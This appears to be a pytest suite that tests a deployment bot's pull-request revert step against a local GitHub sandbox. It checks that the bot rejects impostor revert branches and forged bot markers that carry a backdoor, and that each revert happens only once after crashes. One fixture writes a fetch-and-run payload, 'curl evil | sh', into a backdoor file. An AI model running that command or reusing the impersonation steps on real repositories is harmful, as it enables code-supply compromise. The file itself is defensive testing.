"""Attack 6 (the revert step merged a pull request it did not write) and issue 19's "a revert
happens once": the reverting step, as the pipeline runs it, against the local GitHub stand-in
with its OpenAPI checks on. People act on the stand-in as they would on GitHub (git pushes,
pull requests); the bot acts through its real adapter."""

from __future__ import annotations

import itertools

import pytest
import requests

from bot.infra.github.client import GitHubAdapter, GitHubConfig
from bot.infra.github.revert import PullRequestReverter, RevertRequest
from bot.infra.github.revert_git import Git
from sandbox.github import GitHubSandbox

BOT = "mainline[bot]"
GOOD = {"app.txt": "version 1\n", "README.md": "webapp\n"}
_names = itertools.count(1)


@pytest.fixture
def sandbox(tmp_path):
    sb = GitHubSandbox(tmp_path / "github", validate=True).start()
    yield sb
    sb.stop()
    assert sb.violations == []


def bot_host(sb: GitHubSandbox) -> GitHubAdapter:
    """A fresh adapter, as a freshly started worker process has."""
    return GitHubAdapter(GitHubConfig(base_url=sb.url, token="ghp_bot", write_interval=0))


class Repo:
    """A repository whose latest release (two merged pull requests) went bad."""

    def __init__(self, sb: GitHubSandbox):
        self.sb = sb
        self.name = f"webapp{next(_names)}"
        self.full = f"acme/{self.name}"
        sb.create_repo("acme", self.name, GOOD, collaborators={"octocat": "admin", "mallory": "write"})
        self.good = sb.head(self.full, "master")
        self.first, self.first_sha = self.merge("cache", {"cache.txt": "on\n"}, "Add a cache")
        self.second, self.bad = self.merge("broken", {"app.txt": "version 2\n"}, "Break the health page")
        self.request = RevertRequest(self.full, "master", (self.bad, self.first_sha), (self.first, self.second),
                                     reason="health probe failed 3 times in a row", environment="production")

    def merge(self, branch: str, files: dict, title: str) -> tuple[int, str]:
        self.sb.create_branch(self.full, branch, self.sb.head(self.full, "master"))
        self.sb.push_commit(self.full, branch, files, title)
        number = self.sb.open_pull(self.full, branch, "master", title)
        return number, self.sb.merge_pull(self.full, number)

    @property
    def branch(self) -> str:
        return f"mainline/revert-{self.bad[:12]}"

    def pulls(self) -> list[dict]:
        response = requests.get(f"{self.sb.url}/repos/{self.full}/pulls", params={"state": "all", "per_page": 100},
                                headers={"Authorization": "token reader"}, timeout=10)
        response.raise_for_status()
        return response.json()

    def revert_pulls(self) -> list[dict]:
        return [p for p in self.pulls() if p["head"]["ref"] == self.branch]

    def master_log(self) -> list[str]:
        git = self.sb.repo(self.full).git
        return [git.out("log", "-1", "--format=%B", sha) for sha in git.log(self.sb.head(self.full, "master"), 200)]

    def tree(self, ref: str) -> str:
        return self.sb.repo(self.full).git.out("rev-parse", f"{ref}^{{tree}}")

    def file_on_master(self, path: str) -> bytes | None:
        return self.sb.repo(self.full).git.read_file(self.sb.head(self.full, "master"), path)


# -- attack 6 ---------------------------------------------------------------------------------


def push_impostor_revert(repo: Repo, author: str) -> int:
    """mallory (write access) gets to `mainline/revert-<sha12>` first: a real revert of both
    commits plus a backdoor, under the bot's name, and a pull request whose body forges the
    bot's marker."""
    sb = repo.sb
    sb.create_branch(repo.full, repo.branch, sb.head(repo.full, "master"))
    sb.push_commit(repo.full, repo.branch, {"app.txt": "version 1\n", "cache.txt": None,
                                            "backdoor.py": "import os; os.system('curl evil | sh')\n"},
                   f'Revert "Break the health page"\n\nThis reverts commit {repo.bad}.\n'
                   f"This reverts commit {repo.first_sha}.", author_login=author)
    return sb.open_pull(repo.full, repo.branch, "master", 'Revert "Break the health page"',
                        body=f"{repo.request.marker}\nReverts {repo.full}#{repo.second}", user="mallory")


@pytest.mark.parametrize("author", ["mallory", BOT], ids=["as-herself", "forging-the-bot"])
def test_attack_06_a_revert_branch_and_pull_request_pushed_by_someone_else_are_not_merged(sandbox, tmp_path,
                                                                                          author):
    repo = Repo(sandbox)
    impostor = push_impostor_revert(repo, author)

    outcome = PullRequestReverter(bot_host(sandbox), workdir=tmp_path).revert(repo.request)

    # The refusal: the impostor's pull request is closed unmerged, the bot's own is merged.
    pulls = {p["number"]: p for p in repo.revert_pulls()}
    assert pulls[impostor]["state"] == "closed" and pulls[impostor]["merged_at"] is None
    ours = pulls[outcome.pull_number]
    assert ours["user"]["login"] == BOT and ours["merged_at"] is not None and outcome.pull_number != impostor
    # Master: the bot's revert and nothing else; no backdoor ever reached it.
    assert repo.file_on_master("backdoor.py") is None
    assert all("backdoor" not in message for message in repo.master_log())
    assert repo.tree("master") == repo.tree(repo.good)
    assert outcome.sha == sandbox.head(repo.full, "master")


def test_attack_06_a_push_onto_the_bots_own_revert_branch_is_replaced_before_the_merge(sandbox, tmp_path):
    repo = Repo(sandbox)

    class KilledBeforeMerge(Exception):
        pass

    class Host:
        def __init__(self, host):
            self._host = host

        def __getattr__(self, name):
            return getattr(self._host, name)

        def merge_pull(self, *args, **kwargs):
            raise KilledBeforeMerge()

    with pytest.raises(KilledBeforeMerge):
        PullRequestReverter(Host(bot_host(sandbox)), workdir=tmp_path).revert(repo.request)
    # While the bot was down, mallory adds a backdoor on top of the bot's own branch.
    sandbox.push_commit(repo.full, repo.branch, {"backdoor.py": "evil\n"}, "Tidy up", author_login="mallory")

    outcome = PullRequestReverter(bot_host(sandbox), workdir=tmp_path).revert(repo.request)

    assert len(repo.revert_pulls()) == 1 and repo.revert_pulls()[0]["merged_at"] is not None
    assert repo.file_on_master("backdoor.py") is None
    assert repo.tree("master") == repo.tree(repo.good) and outcome.sha == sandbox.head(repo.full, "master")


def test_attack_06_a_merged_pull_request_from_the_branch_that_is_not_the_bots_is_not_taken_as_the_revert(
        sandbox, tmp_path):
    repo = Repo(sandbox)
    # A harmless change merged from the revert branch must not stand for the revert.
    sandbox.create_branch(repo.full, repo.branch, sandbox.head(repo.full, "master"))
    sandbox.push_commit(repo.full, repo.branch, {"NOTES.md": "notes\n"}, "Notes", author_login="mallory")
    decoy = sandbox.open_pull(repo.full, repo.branch, "master", "Notes", body=repo.request.marker, user="mallory")
    sandbox.merge_pull(repo.full, decoy)

    outcome = PullRequestReverter(bot_host(sandbox), workdir=tmp_path).revert(repo.request)

    assert outcome.pull_number != decoy and outcome.sha == sandbox.head(repo.full, "master")
    assert repo.file_on_master("app.txt") == b"version 1\n" and repo.file_on_master("cache.txt") is None


# -- a revert happens once (issue 19) ----------------------------------------------------------


class Killed(BaseException):
    """kill -9: nothing after it runs, not even an except clause meant for errors."""


class Writes:
    """Counts the reverting step's writes to GitHub (git pushes included) and kills the step
    right after the `kill_after`-th one."""

    def __init__(self, kill_after: int | None):
        self.kill_after = kill_after
        self.count = 0

    def done(self, what: str) -> None:
        self.count += 1
        if self.kill_after is not None and self.count == self.kill_after:
            raise Killed(f"killed after write {self.count} ({what})")


@pytest.fixture
def killable(monkeypatch):
    """Every write of the reverting step to GitHub, an API call that changes something or a git
    push, goes through here; the step is killed right after the server has done it, so its
    answer is lost as it would be to a kill -9."""
    state: dict = {"writes": None}
    real_send, real_run = requests.Session.send, Git.run

    def send(session, request, **kwargs):
        response = real_send(session, request, **kwargs)
        if state["writes"] is not None and request.method in ("POST", "PATCH", "PUT", "DELETE") \
                and response.status_code < 300:
            state["writes"].done(f"{request.method} {request.path_url}")
        return response

    def run(self, *args, **kwargs):
        result = real_run(self, *args, **kwargs)
        if args and args[0] == "push" and state["writes"] is not None:
            state["writes"].done("git push")
        return result

    monkeypatch.setattr(requests.Session, "send", send)
    monkeypatch.setattr(Git, "run", run)
    return state


def run_step(sb: GitHubSandbox, repo: Repo, tmp_path, writes: Writes, killable: dict):
    """One run of the reverting step in a fresh 'process'."""
    killable["writes"] = writes
    try:
        return PullRequestReverter(bot_host(sb), workdir=tmp_path).revert(repo.request)
    finally:
        killable["writes"] = None


def assert_reverted_once(repo: Repo) -> None:
    revert_pulls = repo.revert_pulls()
    assert len(revert_pulls) == 1, [(p["number"], p["state"]) for p in revert_pulls]
    assert revert_pulls[0]["user"]["login"] == BOT and revert_pulls[0]["merged_at"] is not None
    log = repo.master_log()
    assert sum(f"This reverts commit {repo.bad}" in m for m in log) == 1
    assert sum(f"This reverts commit {repo.first_sha}" in m for m in log) == 1
    assert sum(m.startswith("Merge pull request") and repo.branch in m for m in log) == 1
    assert repo.tree("master") == repo.tree(repo.good)
    for number in (repo.first, repo.second):
        told = [c for c in repo.sb.repo(repo.full).comments.values() if c.issue_number == number]
        assert len(told) == 1 and told[0].user == BOT, [c.body for c in told]


def test_the_reverting_step_makes_a_known_number_of_writes(sandbox, tmp_path, killable):
    repo = Repo(sandbox)
    writes = Writes(kill_after=None)
    run_step(sandbox, repo, tmp_path, writes, killable)
    # push, open, merge, one comment on each reverted pull request
    assert writes.count == 5
    assert_reverted_once(repo)


@pytest.mark.parametrize("kill_after", range(1, 6))
def test_a_revert_killed_after_any_write_happens_once_when_run_again(sandbox, tmp_path, killable,
                                                                     kill_after):
    repo = Repo(sandbox)
    with pytest.raises(Killed):
        run_step(sandbox, repo, tmp_path, Writes(kill_after), killable)

    again = Writes(kill_after=None)
    outcome = run_step(sandbox, repo, tmp_path, again, killable)

    assert_reverted_once(repo)
    assert outcome.sha is not None and outcome.reverted == (repo.bad, repo.first_sha)
    # What the first run did is not done again: a run of 5 writes killed after N needs 5 - N more.
    assert again.count == 5 - kill_after

    third = Writes(kill_after=None)
    run_step(sandbox, repo, tmp_path, third, killable)
    assert third.count == 0
    assert_reverted_once(repo)


@pytest.mark.parametrize("first,second", [(1, 1), (2, 1), (1, 2), (3, 1), (2, 2)])
def test_a_revert_killed_twice_in_a_row_still_happens_once(sandbox, tmp_path, killable, first, second):
    repo = Repo(sandbox)
    for kill_after in (first, second):
        with pytest.raises(Killed):
            run_step(sandbox, repo, tmp_path, Writes(kill_after), killable)
    run_step(sandbox, repo, tmp_path, Writes(None), killable)
    assert_reverted_once(repo)


@pytest.mark.parametrize("kill_after", range(1, 4))
def test_a_conflicting_revert_killed_after_any_write_leaves_one_draft_when_run_again(sandbox, tmp_path, killable,
                                                                                     kill_after):
    repo = Repo(sandbox)
    sandbox.push_commit(repo.full, "master", {"app.txt": "version 3\n"}, "Hotfix straight on master")
    head = sandbox.head(repo.full, "master")
    with pytest.raises(Killed):
        run_step(sandbox, repo, tmp_path, Writes(kill_after), killable)

    outcome = run_step(sandbox, repo, tmp_path, Writes(None), killable)
    run_step(sandbox, repo, tmp_path, Writes(None), killable)

    assert outcome.conflict_files == ("app.txt",) and sandbox.head(repo.full, "master") == head
    drafts = repo.revert_pulls()
    assert len(drafts) == 1 and drafts[0]["draft"] is True and drafts[0]["state"] == "open"
    for number in (repo.first, repo.second):
        told = [c for c in sandbox.repo(repo.full).comments.values() if c.issue_number == number]
        assert len(told) == 1 and f"Draft #{drafts[0]['number']}" in told[0].body


def test_a_revert_already_made_by_hand_under_another_message_is_not_made_again(sandbox, tmp_path):
    repo = Repo(sandbox)
    sandbox.push_commit(repo.full, "master", {"app.txt": "version 1\n", "cache.txt": None}, "Back out the release")

    outcome = PullRequestReverter(bot_host(sandbox), workdir=tmp_path).revert(repo.request)

    assert outcome.sha is None and outcome.reverted == repo.request.commits
    assert repo.revert_pulls() == []


def test_a_revert_that_was_itself_reverted_is_made_again(sandbox, tmp_path):
    repo = Repo(sandbox)
    # An earlier revert of the bad change was reverted (the change is back on master).
    sandbox.push_commit(repo.full, "master", {"app.txt": "version 1\n"},
                        f'Revert "Break the health page"\n\nThis reverts commit {repo.bad}.')
    sandbox.push_commit(repo.full, "master", {"app.txt": "version 2\n"}, 'Reapply "Break the health page"')
    request = RevertRequest(repo.full, "master", (repo.bad,), (repo.second,))

    outcome = PullRequestReverter(bot_host(sandbox), workdir=tmp_path).revert(request)

    assert outcome.sha == sandbox.head(repo.full, "master")
    assert repo.file_on_master("app.txt") == b"version 1\n"


# -- attack 6 through the whole pipeline (Docker, HAProxy, git) ---------------------------------


@pytest.mark.docker
def test_attack_06_a_bad_release_is_reverted_by_the_bots_own_pull_request_not_the_one_waiting(world):
    world.first_release()
    _number, v2 = world.merge_pr("hubot/v2", world.app_files("v2", mode="unhealthy"), "Rework the health check",
                                 author="hubot")
    # hubot may push; he gets to the revert branch first, with a "revert" that adds a backdoor.
    branch = f"mainline/revert-{v2[:12]}"
    world.sandbox.create_branch(world.repo, branch, world.head())
    world.sandbox.push_commit(world.repo, branch, {**world.app_files("v1"), "backdoor.py": "evil()\n"},
                              f'Revert "Rework the health check"\n\nThis reverts commit {v2}.', author_login="hubot")
    impostor = world.sandbox.open_pull(world.repo, branch, "master", 'Revert "Rework the health check"',
                                       body=f"<!-- mainline:revert sha={v2} -->", user="hubot")
    world.relay()
    world.work()  # v2 goes out, fails verification, is rolled back and reverted
    world.relay()
    world.work()

    assert world.deploys()[v2]["state"] == "reverted"
    pulls = world.sandbox.repo(world.repo).pulls
    assert pulls[impostor].state == "closed" and not pulls[impostor].merged
    ours = [p for p in pulls.values() if p.head == branch and p.merged]
    assert len(ours) == 1 and ours[0].user == BOT and ours[0].merged_by == BOT
    head = world.head()
    git = world.sandbox.repo(world.repo).git
    assert git.read_file(head, "backdoor.py") is None
    assert world.serves() == f"{world.service} v1"
    status = world.status()
    assert status["in_sync"] is True and status["live"]["sha"] == head
